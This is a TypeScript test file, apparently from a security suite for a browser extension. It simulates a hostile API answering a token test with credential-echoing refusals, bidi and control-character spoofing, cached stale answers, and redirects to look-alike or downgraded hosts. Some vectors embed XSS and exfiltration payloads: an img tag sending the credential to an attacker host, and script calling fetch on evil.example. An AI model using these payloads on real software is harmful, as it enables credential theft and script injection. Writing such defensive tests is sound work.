import { json } from '../../servers/answers';
import type { Fault } from '../../servers/faults';
import { until } from '../../support/until';
import { gained } from '../suite/gained';
import type { Stage } from '../suite/stage';
import { EVIL, TARGET } from '../suite/target';
import type { Vector } from '../suite/vector';

/** Milliseconds for what shown markup loads; the control's loads much sooner. */
const PATIENCE = 1_500;

/**
 * Lets the API's host go wrong while the user tests the token. The test may be answered without a call.
 * @returns what the extension shows of it, '' where it has no test
 */
async function testMaybe({ replica, extension }: Stage, fault: Fault): Promise<string> {
  replica.setFault(TARGET.host, fault);
  try {
    return (await extension.test?.()) ?? '';
  } finally {
    replica.setFault(TARGET.host, null);
  }
}

/** The same, where the test has to call. What a redirect leads to has been asked by then. */
async function testAgainst(stage: Stage, fault: Fault): Promise<string> {
  const calls = () => stage.replica.log.find({ host: TARGET.host }).length;
  const before = calls();
  const shown = await testMaybe(stage, fault);
  if (stage.extension.test !== null && calls() === before) {
    throw new Error('the test never reached the API');
  }
  return shown;
}

/** The same, and waits for what the shown answer may load from elsewhere. */
async function testAndWait(stage: Stage, fault: Fault): Promise<string> {
  const shown = await testAgainst(stage, fault);
  const loads = () =>
    stage.replica.log.all().some(({ host, url }) => host !== TARGET.host && url.includes(stage.path));
  await until('something that loads', loads, { timeout: PATIENCE }).catch(() => false);
  return shown;
}

/** A refusal in the API's own shape around a text that may repeat the credential. */
const refusing = (text: (credential: string) => string): Fault => ({
  answer: ({ credential, errorBody }) => json(401, errorBody(text(credential))),
});

/** An answer that the browser may keep. */
const storable = (status: number, text: string): Fault => ({
  answer: ({ errorBody }) =>
    json(status, status === 200 ? { data: [{ name: text }] } : errorBody(text), {
      'cache-control': 'max-age=600',
    }),
});

/** @param isWrong whether what is shown still has the characters that the refusal came with */
const shownRefusal = (refusal: string, isWrong: (shown: string) => boolean): Vector => ({
  async run(stage) {
    const shown = await testAgainst(
      stage,
      refusing(() => refusal),
    );
    if (stage.extension.test !== null && !shown.includes('Shown')) throw new Error('the answer is not shown');
    return gained(isWrong(shown));
  },
  arrives: [],
});

/** The attacker holds whatever the test shows. */
const answered = (faultOf: (stage: Stage) => Fault, test = testAgainst): Vector => ({
  run: (stage) => test(stage, faultOf(stage)),
  arrives: [],
});

/** A redirect that no browser keeps for the next time. @param origin where the API redirects to */
const redirected = (origin: string, status = 302): Vector =>
  answered(({ path }) => ({
    answer: () => ({
      status,
      headers: { location: `${origin}${path}`, 'cache-control': 'no-store' },
      body: '',
    }),
  }));

const imageOf = ({ path }: Stage, credential: string): string =>
  `${EVIL}${path}?${encodeURIComponent(credential)}`;

/** The user tests the token, and what answers is not what the extension expects. */
export default {
  // Turns words around, so that the shown sentence says something else.
  bidi: shownRefusal('Shown \u202Egnorw\u202C \u2066\u200B', (shown) =>
    /[\u200b\u202a-\u202e\u2066-\u2069]/.test(shown),
  ),
  // The browser has an old answer: the token was good then, and is not any more.
  cached: {
    async run(stage) {
      await testAgainst(stage, storable(200, 'Holder of Yesterday'));
      const shown = await testMaybe(stage, storable(401, 'Nobody of Today'));
      // Takes the stored answer away again, where there is one.
      await stage.extension.page
        ?.evaluate(`fetch('${TARGET.origin}/v1/account/units', { cache: 'reload' })`)
        .catch(() => null);
      return gained(shown.includes('Holder of Yesterday'));
    },
    arrives: [],
  },
  'control-characters': shownRefusal('Shown \u0007\u001b[31m red', (shown) => shown.includes('\u001b')),
  'echo-in-name': answered(() => ({
    answer: ({ credential }) => json(200, { data: [{ id: 1, name: `Holder of ${credential}` }] }),
  })),
  // A refusal that repeats the credential must not bring it onto the screen.
  'echo-in-refusal': answered(() => refusing((credential) => `Not accepted: ${credential}`)),
  // The token with invisible characters between its letters, as it is read on the screen.
  'echo-through-bidi': {
    async run(stage) {
      const shown = await testAgainst(
        stage,
        refusing((credential) => [...credential].join('\u200b')),
      );
      return shown.replaceAll('\u200b', '');
    },
    arrives: [],
  },
  // An image whose address is the echoed credential, where the words of a server are shown as markup.
  'markup-around-echo': answered(
    (stage) => refusing((credential) => `<img src='${imageOf(stage, credential)}'>`),
    testAndWait,
  ),
  // A whole page in place of the API’s answer, such as a proxy gives.
  'page-with-echo': answered(
    (stage) => ({
      answer: ({ credential }) => ({
        status: 200,
        headers: { 'content-type': 'text/html' },
        body: `<!doctype html><img src="${imageOf(stage, credential)}">`,
      }),
    }),
    testAndWait,
  ),
  'redirected-301': redirected(EVIL, 301),
  'redirected-302': redirected(EVIL, 302),
  'redirected-303': redirected(EVIL, 303),
  'redirected-307': redirected(EVIL, 307),
  'redirected-308': redirected(EVIL, 308),
  'redirected-to-http': redirected('http://api.airship.co.uk'),
  'redirected-to-look-alike': redirected('https://api.pagerduty.com.evil.example'),
  'redirected-to-port': redirected('https://api.airship.co.uk:8443'),
  'redirected-to-sub-domain': redirected('https://evil.api.airship.co.uk'),
  // Script in the words of a server.
  script: {
    async run(stage) {
      const script = `fetch('https://evil.example${stage.path}')`;
      await testAndWait(
        stage,
        refusing(() => `Shown <img src="x" onerror="${script}"><script>${script}</script>`),
      );
      return gained(stage.replica.log.find({ host: 'evil.example', path: stage.path }).length > 0);
    },
    arrives: [],
  },
} satisfies Readonly<Record<string, Vector>>;
